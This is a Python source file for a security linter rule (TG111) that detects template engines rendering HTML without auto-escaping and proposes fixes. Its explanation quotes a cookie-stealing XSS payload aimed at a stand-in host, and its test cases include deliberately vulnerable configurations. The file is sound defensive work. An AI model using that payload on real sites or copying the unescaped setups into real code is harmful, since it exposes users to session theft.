"""TG111: a Jinja2, Mako or Django template engine that renders HTML without auto-escaping, or a Flask
page rendered from a template Flask does not auto-escape."""

from __future__ import annotations

import ast

from tabguard.engine.fixes import expression_fix, set_keyword, text_fix
from tabguard.engine.rule import Invalid, Rule
from tabguard.rules.injection import last_names
from tabguard.rules.injection._html import FLASK_RENDER, returns_html, sent_as_page, unescaped_template
from tabguard.rules.injection._strings import constant_text

_ENVIRONMENTS = frozenset({"jinja2.Environment", "jinja2.environment.Environment", "jinja2.Template"})
# Integrations that build a Jinja2 environment escaping by default: only turning it off is the flaw.
_ESCAPING_SETUPS = frozenset(
    {"aiohttp_jinja2.setup", "starlette.templating.Jinja2Templates", "fastapi.templating.Jinja2Templates"}
)
_MAKO = frozenset({"mako.template.Template", "mako.lookup.TemplateLookup"})


def _escape_setting(ctx) -> str:
    """`select_autoescape()` spelled the way the module can reach it, else `True`."""
    for alias, target in ctx.module.imports.items():
        if target == "jinja2.select_autoescape":
            return f"{alias}()"
    for alias, target in ctx.module.imports.items():
        if target == "jinja2":
            return f"{alias}.select_autoescape()"
    return "True"


# Endings of a template file name that only say it is a template (`nginx.conf.j2`).
_TEMPLATE_ENDINGS = ("j2", "jinja", "jinja2", "tmpl", "tpl", "template")
# Text formats a template may produce, none of them a page (HTML, XML and SVG are left out).
_TEXT_FORMATS = frozenset(
    {"txt", "text", "md", "markdown", "rst", "yaml", "yml", "json", "toml", "ini", "cfg", "conf", "env", "sh"}
    | {"py", "sql", "csv", "tex", "service", "tf", "hcl", "properties", "dockerfile", "eml", "ps1", "bat"}
)
_TEMPLATE_METHODS = frozenset({"get_template", "select_template", "get_or_select_template", "from_string"})


def _renders_text_only(node: ast.Call, ctx) -> bool:
    """Where the environment is used in the same function (`env.get_template("nginx.conf.j2")`,
    `env.from_string(README)`), every template is a text format, none a page. Nothing seen: unknown."""
    parent = ctx.parent(node)
    if isinstance(parent, ast.Attribute):  # `Environment(...).get_template("values.yaml.j2")`
        use = ctx.parent(parent)
        return isinstance(use, ast.Call) and use.func is parent and _text_template(use, ctx)
    if not (isinstance(parent, ast.Assign) and len(parent.targets) == 1 and isinstance(parent.targets[0], ast.Name)):
        return False
    scope = ctx.function
    if scope is None:
        return False  # a module's environment is used in other functions, out of sight
    name = parent.targets[0].id
    uses = [
        call
        for call in ast.walk(scope)
        if isinstance(call, ast.Call)
        and isinstance(call.func, ast.Attribute)
        and isinstance(call.func.value, ast.Name)
        and call.func.value.id == name
        and call.func.attr in _TEMPLATE_METHODS
    ]
    return bool(uses) and all(_text_template(use, ctx) for use in uses)


def _text_template(use: ast.Call, ctx) -> bool:
    method = use.func.attr if isinstance(use.func, ast.Attribute) else ""
    argument = use.args[0] if use.args else None
    if method not in _TEMPLATE_METHODS or argument is None:
        return False
    if method == "from_string":
        text = constant_text(argument, ctx)
        return bool(text) and "<" not in text
    names = argument.elts if isinstance(argument, (ast.List, ast.Tuple)) else [argument]
    return all(_text_format(ctx.constant_value(n)) for n in names)


def _text_format(name: object) -> bool:
    """`nginx.conf.j2`, `README.md`, `values.yaml.jinja`: a file name whose format is text, not markup."""
    if not isinstance(name, str):
        return False
    parts = name.rpartition("/")[2].lower().split(".")
    while len(parts) > 1 and parts[-1] in _TEMPLATE_ENDINGS:
        parts.pop()
    return len(parts) > 1 and parts[-1] in _TEXT_FORMATS


def _falsy_constant(value: ast.expr, ctx) -> bool:
    """`False`, `None`, `""`, `0`, or a module constant holding one of them."""
    if isinstance(value, ast.Constant):
        return not value.value
    if isinstance(value, ast.Name) and value.id in ctx.module.constants and ctx.scope.lookup(value.id) is None:
        return not ctx.module.constants[value.id]
    return False


_DJANGO_SETTINGS = (
    "TEMPLATES = [{{\n    'BACKEND': 'django.template.backends.django.DjangoTemplates',\n    'APP_DIRS': True,\n"
    "    'OPTIONS': {{'autoescape': {}}},\n}}]\n"
)
_FLASK = "from flask import Flask, render_template\napp = Flask(__name__)\n"


class Jinja2AutoescapeOff(Rule):
    id = "TG111"
    name = "template-autoescape-off"
    severity = "medium"
    confidence = "medium"
    cwe = (79,)
    owasp = "A05:2025"
    message = "{what}: variables are inserted into HTML unescaped"
    placeholders = {"what": "Jinja2 environment without autoescape"}
    aliases = ("B701", "S701")
    call_names = last_names(_ENVIRONMENTS | _MAKO | FLASK_RENDER | _ESCAPING_SETUPS)
    what = "{what}, so `{{{{ value }}}}` (Mako: `${{value}}`) writes the value into the page as raw HTML."
    why = (
        "Jinja2's default is `autoescape=False` (Flask turns it on for its own environment, and only for "
        "templates named `.html`, `.htm`, `.xml`, `.xhtml` or `.svg`: a page rendered from `profile.txt` "
        "or `page.jinja2` is sent as `text/html` unescaped). A "
        "stored comment such as `<script>new Image().src='//evil.test?c='+document.cookie</script>` "
        "rendered through `Environment(loader=...)` runs in every reader's browser."
    )
    how = (
        "Create Jinja2 environments with `autoescape=select_autoescape()` (escaping for .html/.xml "
        'templates and strings) or `autoescape=True`; give Mako `default_filters=["h"]`. Name Flask page '
        "templates `.html`, or send text templates as `text/plain`; leave the `'autoescape'` option of "
        "Django's `TEMPLATES` backends at its default (True). Mark trusted "
        "snippets with `Markup` in code, not by switching escaping off."
    )
    example = 'env = Environment(loader=FileSystemLoader("templates"), autoescape=select_autoescape())'
    fix_safety = (
        "Unsafe: turning escaping on changes output that relied on raw HTML from variables (render it "
        "with `|safe` or `Markup` after review). Environments producing non-HTML text (YAML, SQL, emails) "
        "should say `autoescape=False` on purpose, with a suppression comment."
    )
    references = (
        "https://cwe.mitre.org/data/definitions/79.html",
        "https://jinja.palletsprojects.com/en/stable/api/#autoescaping",
    )
    VALID = (
        "from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=select_autoescape())\n",
        "import jinja2\nenv = jinja2.Environment(autoescape=True)\n",
        'import jinja2\nt = jinja2.Template("<p>{{ x }}</p>", autoescape=True)\n',
        'import jinja2\nt = jinja2.Template("Dear {{ name }},")\n',
        'from mako.lookup import TemplateLookup\nlookup = TemplateLookup(directories=["t"], default_filters=["h"])\n',
        "def f(app):\n    app.jinja_env.autoescape = True\n",
        _FLASK
        + '@app.route("/notes")\ndef notes():\n    return render_template("notes.html", notes=Note.query.all())\n',
        # A plain-text email body is not a page; nor is a text response that says so.
        _FLASK + 'def welcome(msg, user):\n    msg.body = render_template("welcome.txt", user=user)\n',
        _FLASK + '@app.route("/feed.txt")\ndef feed():\n'
        '    return render_template("feed.txt", items=load()), 200, {"Content-Type": "text/plain"}\n',
        _DJANGO_SETTINGS.format("True"),
        # these integrations escape unless told not to
        "import aiohttp_jinja2, jinja2\ndef init(app):\n    aiohttp_jinja2.setup(app, loader=jinja2.FileSystemLoader('views'))\n",
        "from fastapi.templating import Jinja2Templates\npages = Jinja2Templates(directory='pages')\n",
        # A context variable named `autoescape` changes nothing: escaping is an engine option.
        'from django.shortcuts import render\ndef v(request):\n    return render(request, "p.html", {"autoescape": False})\n',
        _FLASK + '@app.route("/robots.txt")\ndef robots():\n    return render_template("robots.txt")\n',
        # configuration and documentation files: escaping HTML would corrupt them
        "import jinja2\nfrom pathlib import Path\ndef write_config(hosts):\n"
        '    env = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"))\n'
        '    Path("nginx.conf").write_text(env.get_template("nginx.conf.j2").render(hosts=hosts))\n',
        "import jinja2\nNOTES = '# Release {{ version }}\\n{% for c in changes %}- {{ c }}\\n{% endfor %}'\n"
        "def release_notes(version, changes):\n    env = jinja2.Environment()\n"
        "    return env.from_string(NOTES).render(version=version, changes=changes)\n",
    )
    INVALID = (
        # one of the templates is a page
        Invalid(
            "import jinja2\ndef build(site):\n"
            '    env = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"))\n'
            '    robots = env.get_template("robots.txt.j2").render(site=site)\n'
            '    index = env.get_template("index.html.j2").render(site=site)\n    return robots, index\n',
            "import jinja2\ndef build(site):\n"
            '    env = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"), autoescape=jinja2.select_autoescape())\n'
            '    robots = env.get_template("robots.txt.j2").render(site=site)\n'
            '    index = env.get_template("index.html.j2").render(site=site)\n    return robots, index\n',
        ),
        Invalid(
            'from jinja2 import Environment, FileSystemLoader\nenv = Environment(loader=FileSystemLoader("t"))\n',
            'from jinja2 import Environment, FileSystemLoader\nenv = Environment(loader=FileSystemLoader("t"), autoescape=True)\n',
        ),
        Invalid(
            "import jinja2\nenv = jinja2.Environment(autoescape=False)\n",
            "import jinja2\nenv = jinja2.Environment(autoescape=jinja2.select_autoescape())\n",
        ),
        Invalid(
            "from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=False)\n",
            "from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=select_autoescape())\n",
        ),
        Invalid(
            "import jinja2\nESCAPE = False\nenv = jinja2.Environment(autoescape=ESCAPE)\n",
            "import jinja2\nESCAPE = False\nenv = jinja2.Environment(autoescape=jinja2.select_autoescape())\n",
        ),
        Invalid(
            'import jinja2\nPAGE = jinja2.Template("<p>{{ comment }}</p>")\n',
            'import jinja2\nPAGE = jinja2.Template("<p>{{ comment }}</p>", autoescape=jinja2.select_autoescape())\n',
        ),
        Invalid(
            'from mako.template import Template\npage = Template("<p>${comment}</p>")\n',
            'from mako.template import Template\npage = Template("<p>${comment}</p>", default_filters=["h"])\n',
        ),
        Invalid(
            "from flask import Flask\napp = Flask(__name__)\napp.jinja_env.autoescape = False\n",
            "from flask import Flask\napp = Flask(__name__)\napp.jinja_env.autoescape = True\n",
        ),
        Invalid(_DJANGO_SETTINGS.format("False"), _DJANGO_SETTINGS.format("True")),
        Invalid(
            "import aiohttp_jinja2, jinja2\ndef init(app):\n"
            "    aiohttp_jinja2.setup(app, loader=jinja2.FileSystemLoader('views'), autoescape=False)\n",
            "import aiohttp_jinja2, jinja2\ndef init(app):\n"
            "    aiohttp_jinja2.setup(app, loader=jinja2.FileSystemLoader('views'), autoescape=True)\n",
        ),
        Invalid(
            "from fastapi.templating import Jinja2Templates\npages = Jinja2Templates(directory='pages', autoescape=False)\n",
            "from fastapi.templating import Jinja2Templates\npages = Jinja2Templates(directory='pages', autoescape=True)\n",
        ),
        Invalid(
            _FLASK
            + '@app.route("/notes")\ndef notes():\n    return render_template("notes.j2", notes=Note.query.all())\n'
        ),
        Invalid(
            _FLASK
            + '@app.route("/r/<kind>")\ndef report(kind):\n    page = render_template("%s.txt" % KINDS[kind], rows=load())\n'
            '    return page.replace("\\n", "<br>")\n'
        ),
    )

    def visit_Call(self, node: ast.Call, ctx) -> None:
        callee = ctx.call_name(node) or ""
        if callee in FLASK_RENDER:
            self._check_flask_page(node, ctx)
            return
        if callee in _MAKO:
            self._check_mako(node, ctx)
            return
        if callee in _ESCAPING_SETUPS:
            keyword = ctx.keyword(node, "autoescape")
            if keyword is not None and _falsy_constant(keyword.value, ctx):
                what = f"`{callee.rpartition('.')[2]}` with `autoescape={ctx.segment(ctx.span(keyword.value))}`"
                fix = expression_fix(ctx, node, set_keyword("autoescape", "True"), "Fix: autoescape=True", safe=False)
                ctx.report(self, keyword, details={"what": what}, fix=fix)
            return
        if callee not in _ENVIRONMENTS or any(k.arg is None for k in node.keywords):
            return  # **options may set it
        keyword = ctx.keyword(node, "autoescape")
        kind = "template" if callee == "jinja2.Template" else "environment"
        if keyword is None:
            source = node.args[0] if node.args else None
            if kind == "template" and "<" not in constant_text(source, ctx):
                return  # a text (not HTML) template, or one whose source TG108 judges
            what = f"Jinja2 {kind} without `autoescape`"
        elif _falsy_constant(keyword.value, ctx):
            what = f"Jinja2 {kind} with `autoescape={ctx.segment(ctx.span(keyword.value))}`"
        else:
            return
        if kind == "environment" and _renders_text_only(node, ctx):
            return  # config files, Markdown, reStructuredText: escaping HTML would corrupt them
        value = _escape_setting(ctx)
        # An explicit `autoescape=False` is the flaw itself: point at it (the whole call when it is missing).
        ctx.report(
            self,
            keyword if keyword is not None else node,
            details={"what": what},
            fix=expression_fix(ctx, node, set_keyword("autoescape", value), f"Fix: set autoescape={value}", safe=False),
        )

    def _check_flask_page(self, node: ast.Call, ctx) -> None:
        """A route returns a page rendered, with variables, from a template Flask does not escape."""
        name = unescaped_template(node, ctx)
        context = [*node.args[1:], *(k.value for k in node.keywords)]
        if name is None or not context or not returns_html(ctx.function, ctx):
            return
        if all(isinstance(v, ast.Call) and (ctx.call_name(v) or "").rpartition(".")[2] == "escape" for v in context):
            return  # every value escaped by hand (`html.escape(...)`)
        if any(ctx.taint(k.value) is not None for k in node.keywords) or not sent_as_page(node, ctx):
            return  # user input rendered this way is TG110's finding
        ctx.report(
            self,
            node.args[0],
            details={"what": f"Flask page rendered from `{name}`, a template Flask does not auto-escape"},
        )

    def _check_mako(self, node: ast.Call, ctx) -> None:
        """Mako escapes nothing unless `default_filters` includes `h`."""
        keyword = ctx.keyword(node, "default_filters")
        if keyword is not None or any(k.arg is None for k in node.keywords):
            return
        ctx.report(
            self,
            node,
            details={"what": "Mako template without the `h` (HTML escape) default filter"},
            fix=expression_fix(
                ctx, node, set_keyword("default_filters", '["h"]'), "Fix: escape HTML by default", safe=False
            ),
        )

    def visit_Dict(self, node: ast.Dict, ctx) -> None:
        """Django's `TEMPLATES` setting: `'OPTIONS': {'autoescape': False}` of a template backend."""
        entries = {
            k.value: v
            for k, v in zip(node.keys, node.values)
            if isinstance(k, ast.Constant) and isinstance(k.value, str)
        }
        backend, options = ctx.constant_value(entries.get("BACKEND")), entries.get("OPTIONS")
        if not (
            isinstance(backend, str)
            and backend.startswith("django.template.backends.")
            and isinstance(options, ast.Dict)
        ):
            return
        for key, value in zip(options.keys, options.values):
            if isinstance(key, ast.Constant) and key.value == "autoescape" and _falsy_constant(value, ctx):
                ctx.report(
                    self,
                    value,
                    details={"what": f"Django template backend with `'autoescape': {ctx.segment(ctx.span(value))}`"},
                    fix=text_fix(ctx.span(value), "True", "Fix: set autoescape to True", safe=False),
                )

    def visit_Assign(self, node: ast.Assign, ctx) -> None:
        value = node.value
        if not (isinstance(value, ast.Constant) and value.value is False):
            return
        for target in node.targets:
            if (
                isinstance(target, ast.Attribute)
                and target.attr == "autoescape"
                and (isinstance(target.value, ast.Attribute) and target.value.attr == "jinja_env")
            ):
                ctx.report(
                    self,
                    node,
                    details={"what": "Jinja2 environment with `autoescape` switched off"},
                    fix=text_fix(ctx.span(value), "True", "Fix: set autoescape=True", safe=False),
                )
